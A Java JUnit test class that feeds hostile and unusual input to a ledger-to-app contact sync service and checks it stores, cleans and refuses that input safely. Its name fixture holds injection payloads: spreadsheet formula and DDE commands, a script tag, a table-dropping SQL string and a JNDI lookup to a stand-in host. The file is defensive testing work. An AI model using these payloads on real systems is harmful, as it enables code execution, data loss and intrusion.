package io.ledgerbridge.scenario;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;
import org.yaml.snakeyaml.constructor.SafeConstructor;

@DisplayName("F29: hostile or odd input")
class HostileInputTest extends Scenario {

  private static final String TEN_MEGABYTES = "\"" + "x".repeat(10_000_000) + "\"";

  @Autowired private JdbcClient database;

  static Stream<String> oddNames() {
    return Stream.of(
        "=HYPERLINK(\"http://evil.test\",\"click\")",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "<script>alert(1)</script> & <b>Co</b>",
        "'; drop table contact_link; -- \\",
        "Ann \uD83D\uDC69\u200D\uD83D\uDC67 \uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08 Emoji",
        "\u05D0\u05D1\u05D2 \u0645\u0631\u062D\u0628\u0627 Ltd",
        "100% %s {0} ${jndi:ldap://evil.test} #{1+1}",
        "O\\'Brien \"& Sons\"",
        "\uFEFFTab's Co");
  }

  @ParameterizedTest
  @MethodSource("oddNames")
  @DisplayName("an odd company name is carried both ways, but for a colon, and answered as text")
  void oddCompany(String name) {
    hub.syncNow();
    hub.settings("pushContactTypes: [Client]");
    var legal = name.replace(':', ';') + " A";
    ledger.add(Map.of("DisplayName", legal, "CompanyName", legal));
    app.add(Map.of("fullName", name + " B"));

    hub.poll();
    hub.poll();

    assertThat(app.all()).extracting(one -> one.get("name")).contains(legal, name + " B");
    assertThat(ledger.all())
        .extracting(one -> one.path("CompanyName").asText())
        .contains(name.replace(":", " -") + " B");
    assertThat(hub.count("linked")).isEqualTo(2);
    assertThat(hub.items("/errors")).isEmpty();
    var writes = hub.appWrites() + hub.ledgerWrites();
    hub.poll();
    assertThat(hub.appWrites() + hub.ledgerWrites()).isEqualTo(writes).isEqualTo(2);
    var page = page("/connections/" + hub.id() + "/clients");
    assertThat(page).doesNotContain("<script>alert(1)").doesNotContain("<b>Co</b>");
  }

  @Test
  @DisplayName("a colon, a tab and a new line in a name: legal in the ledger, whole in the app")
  void illegalInLedger() {
    hub.syncNow();
    hub.settings("pushContactTypes: [Client]");
    var org = app.add(Map.of("fullName", "Lee:Sons\tand\nDaughters"));
    var person =
        app.add(Map.of("firstName", "Ann:Mae", "lastName", "Lee\tRoe", "email", "a@lee.test"));

    hub.poll();
    hub.poll();
    hub.poll();

    assertThat(hub.items("/errors")).isEmpty();
    assertThat(hub.count("linked")).isEqualTo(2);
    assertThat(ledger.all())
        .allSatisfy(
            one -> {
              assertThat(one.path("DisplayName").asText()).doesNotContainPattern("[:\t\n]");
              assertThat(one.path("GivenName").asText()).doesNotContainPattern("[:\t\n]");
            });
    assertThat(app.see(org)).containsEntry("fullName", "Lee:Sons\tand\nDaughters");
    assertThat(app.see(person)).containsEntry("firstName", "Ann:Mae");
    assertThat(hub.ledgerWrites()).isEqualTo(2);
    assertThat(hub.appWrites()).isZero();
  }

  static Stream<String> writingCalls() throws IOException {
    var text = Files.readString(Path.of("src/main/resources/openapi.yaml"), StandardCharsets.UTF_8);
    Map<String, Map<String, Map<String, Object>>> contract =
        new Yaml(new SafeConstructor(new LoaderOptions())).load(text);
    var ofContract =
        contract.getOrDefault("paths", Map.of()).entrySet().stream()
            .flatMap(
                path ->
                    Stream.of("post", "put")
                        .filter(path.getValue()::containsKey)
                        .map(
                            method ->
                                method.toUpperCase(Locale.ROOT) + " /api/v1" + path.getKey()));
    return Stream.concat(
        ofContract, Stream.of("POST /webhooks/quickbooks", "POST /webhooks/karbon/{connectionId}"));
  }

  @ParameterizedTest
  @MethodSource("writingCalls")
  @DisplayName("10 MB are refused with 413, of known and of unknown length, and nothing is stored")
  void tooLarge(String call) throws Exception {
    var before = stored();
    var path = call.split(" ")[1].replaceAll("\\{(id|connectionId)}", hub.id());
    var request =
        HttpRequest.newBuilder(URI.create(hub.address() + path.replaceAll("\\{\\w+}", "app")))
            .header("Authorization", "Basic " + base64("admin:test-password"))
            .header("Content-Type", "application/json");
    var bytes = TEN_MEGABYTES.getBytes(StandardCharsets.US_ASCII);

    for (var body :
        List.of(
            BodyPublishers.ofByteArray(bytes),
            BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes)))) {
      var answer =
          HttpClient.newHttpClient()
              .send(
                  request.copy().method(call.split(" ")[0], body).build(), BodyHandlers.ofString());
      assertThat(answer.statusCode()).isEqualTo(413);
      assertThat(answer.headers().firstValue("Content-Type").orElse(""))
          .startsWith("application/problem+json");
    }
    assertThat(stored()).isEqualTo(before);
  }

  private List<Long> stored() {
    return Stream.of("hub_connection", "notice", "sync_run", "contact_link", "contact_record")
        .map(table -> database.sql("select count(*) from " + table).query(Long.class).single())
        .toList();
  }

  private String page(String path) {
    return hub.send("GET", path, null).body().asText();
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }
}
